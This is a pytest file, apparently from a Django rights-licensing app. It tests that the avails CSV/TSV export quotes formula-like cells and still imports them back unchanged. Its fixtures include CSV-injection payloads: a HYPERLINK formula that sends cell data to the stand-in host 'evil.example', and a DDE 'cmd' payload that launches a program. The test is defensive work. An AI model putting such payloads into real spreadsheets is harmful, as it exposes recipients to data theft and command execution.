"""The avails export is opened in spreadsheets by distributors: a licence reference, edit or
contract id written as a formula must arrive as text, and the file must still import back."""

from __future__ import annotations

import csv
import io

import pytest

from dastan.rights.actions import grant_licence
from dastan.rights.avails import export_avails, import_avails

from .factories import make_title, owner_of, terms

pytestmark = pytest.mark.django_db

EVIL_CONTRACT = '=HYPERLINK("http://evil.example/steal?d="&A2, "Contract")'


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_formula_cells_in_the_avails_export_are_quoted_and_read_back_unchanged(delimiter: str) -> None:
    title = make_title(slug="steppe")
    grant_licence.execute(terms=terms("-2+3+cmd|' /C calc'!A0", title_id=title.pk, edit="@SUM(1+1)",
                                      contract_reference=EVIL_CONTRACT),
                          licensor=owner_of(title))
    exported = export_avails(delimiter=delimiter)
    (row,) = list(csv.DictReader(io.StringIO(exported), delimiter=delimiter))
    assert row["LicenceRef"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["Edit"] == "'@SUM(1+1)"
    assert row["ContractID"] == "'" + EVIL_CONTRACT
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert row["Title"] == "steppe" and row["Start"] == "2027-03-01"  # plain cells are untouched
    again = import_avails(text=exported, dry_run=True)
    assert [(c.ref, c.action) for c in again.changes] == [("-2+3+cmd|' /C calc'!A0", "unchanged")]
